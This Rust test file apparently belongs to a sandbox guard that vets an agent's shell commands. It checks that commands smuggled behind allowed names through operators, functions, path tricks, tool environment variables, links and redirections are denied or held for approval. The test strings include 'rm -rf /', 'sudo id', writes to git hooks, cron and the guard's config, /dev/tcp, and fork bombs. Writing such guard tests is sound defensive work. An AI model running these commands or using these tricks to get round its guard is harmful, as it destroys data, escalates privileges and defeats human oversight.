//! SANDBOX.md, attacks, "Shell": how a command hides behind an allowed name.

use super::decide_so;
use guard::decide::Verdict::{Ask, Deny};

#[test]
fn a_variable_or_a_function_by_an_allowed_name_hides_no_command() {
    // `python=1 CMD`; `python(){ CMD;};python`.
    decide_so(&[
        ("python=1 sudo id", Deny, "more-rights"),
        ("python(){ sudo id;};python", Deny, "more-rights"),
        ("function pytest { rm -rf /; }; pytest", Deny, "removes-outside"),
        ("python=1 frobnicate", Ask, "guard:not-listed"),
    ]);
}

#[test]
fn a_newline_and_every_operator_show_the_command_behind_them() {
    // A newline; `;` `&&` `||` `|` `&` `$()` backticks `<()` `>`.
    for hidden in ["sudo id", "rm -rf /"] {
        let rule = if hidden.starts_with("sudo") { "more-rights" } else { "removes-outside" };
        for around in [
            "python a.py\n{}",
            "python a.py; {}",
            "python a.py && {}",
            "python a.py || {}",
            "python a.py | {}",
            "python a.py & {}",
            "python $({})",
            "python \"$({})\"",
            "python `{}`",
            "python <({})",
            "python a.py > >({})",
            "python a.py <<< \"$({})\"",
            "python - <<E\n$({})\nE",
            "python a.py \\\n; {}",
        ] {
            decide_so(&[(&around.replace("{}", hidden), Deny, rule)]);
        }
    }
}

#[test]
fn a_redirection_is_a_write_like_any_other() {
    // `>`, and the files that run later: hooks and settings of git.
    decide_so(&[
        ("python a.py > /etc/cron.d/x", Deny, "guard:writes-outside"),
        ("python a.py >> ~/.bashrc", Deny, "guard:writes-outside"),
        ("echo x > .git/hooks/pre-commit", Deny, "guard:writes-protected"),
        ("echo x > .git/config", Deny, "guard:writes-protected"),
        ("echo x > guard.toml", Deny, "guard:writes-protected"),
        ("echo x > /dev/tcp/10.0.0.1/80", Deny, "guard:dev-tcp"),
    ]);
}

#[test]
fn a_path_through_an_allowed_name_is_what_it_resolves_to() {
    // `python/../../bin/sh`.
    decide_so(&[
        ("python/../../bin/sh x", Ask, "guard:not-listed"),
        ("python/../../bin/sh -c 'rm -rf /'", Deny, "removes-outside"),
        ("python/../../usr/bin/sudo id", Deny, "more-rights"),
    ]);
}

#[test]
fn a_program_that_starts_another_one_hides_nothing() {
    // Found by reading the list of programs that only tell: numactl and pidstat run what stands behind their options.
    decide_so(&[
        ("numactl sudo id", Deny, "more-rights"),
        ("numactl -l sudo id", Deny, "more-rights"),
        ("numactl -N 0 -m 0 rm -rf /", Deny, "removes-outside"),
        ("pidstat -e id", Ask, "guard:not-listed"),
        ("sar -o x 1 1", Ask, "guard:not-listed"),
        ("dmidecode --dump-bin x", Ask, "guard:not-listed"),
        ("less '+!id' a", Ask, "pages-and-runs"),
        ("mlr --prepipe ./x cat a", Ask, "guard:not-listed"),
        ("mlr --from a tee ../x", Ask, "guard:not-listed"),
    ]);
}

#[test]
fn a_variable_of_a_tool_is_a_flag_of_it() {
    // Found by giving each allowed tool the variable in which it looks for more options.
    for set in ["TAR_OPTIONS=--checkpoint-action=exec=id", "ZIPOPT=-TT", "UNZIP=-d/etc", "MANOPT=-Pid", "RSYNC_RSH=id"]
    {
        decide_so(&[(&format!("{set} ls"), Ask, "variables-change-programs")]);
    }
    for set in ["HISTFILE=guard.toml", "KUBECONFIG=x", "GH_PAGER=id", "BAT_PAGER=id", "COV_CORE_CONFIG=x"] {
        decide_so(&[(&format!("{set} ls"), Ask, "variables-change-programs")]);
    }
    decide_so(&[("OPENSSL_CONF=x ls", Deny, "variables-load-code")]);
}

#[test]
fn the_shell_s_history_is_written_to_no_file() {
    decide_so(&[("history -w guard.toml", Ask, "guard:unproven"), ("history -a .git/config", Ask, "guard:unproven")]);
}

#[test]
fn another_name_for_a_protected_file_is_not_made() {
    // A link, and a write through it on the same line.
    decide_so(&[
        ("ln guard.toml x; echo > x", Deny, "links-protected"),
        ("ln -s .git/hooks h; cp a h/pre-commit", Deny, "links-protected"),
        ("cp -l guard.toml x", Deny, "copies-as-links-protected"),
    ]);
}

#[test]
fn what_find_finds_everywhere_is_git_s_own_too() {
    decide_so(&[
        ("find . -type f -exec sed -i s/a/b/ {} +", Ask, "git-files-found"),
        ("find . -name index -exec rm {} +", Ask, "git-files-found"),
        ("find . -exec touch {} +", Ask, "git-files-found"),
    ]);
}

#[test]
fn a_storm_of_processes_is_refused_where_it_is_written_out() {
    // Kernel, "a fork storm"; the limit itself is the fence's.
    decide_so(&[(":(){ :|:& };:", Deny, "guard:fork-bomb"), ("bash -c 'b(){ b|b& };b'", Deny, "guard:fork-bomb")]);
}
